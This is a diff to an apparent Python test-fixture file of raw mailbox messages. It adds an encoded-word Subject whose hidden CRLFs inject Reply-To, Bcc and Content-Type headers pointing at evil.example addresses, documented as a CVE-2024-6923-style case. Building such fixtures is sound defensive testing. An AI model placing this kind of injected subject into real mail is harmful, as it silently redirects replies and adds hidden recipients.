@@ -1,6 +1,14 @@
-"""Raw messages of every shape a mailbox holds, put in with APPEND."""
+"""Raw messages of every shape a mailbox holds, put in with APPEND, and a subject that must
+never be sent."""
 
 from __future__ import annotations
+
+ENCODED_WORD_SUBJECT = (
+    "=?utf-8?q?Quarterly_report=0D=0AReply-To:_attacker@evil.example=0D=0ABcc:_victim@evil.example"
+    "=0D=0AContent-Type:_text/html?="
+)
+"""Decoded by Python's email generator while it writes Subject (the CVE-2024-6923 class): three
+header fields of its own that a preview of the subject does not show."""
 
 PLAIN = (
     b"From: Alice <alice@example.com>\r\n"
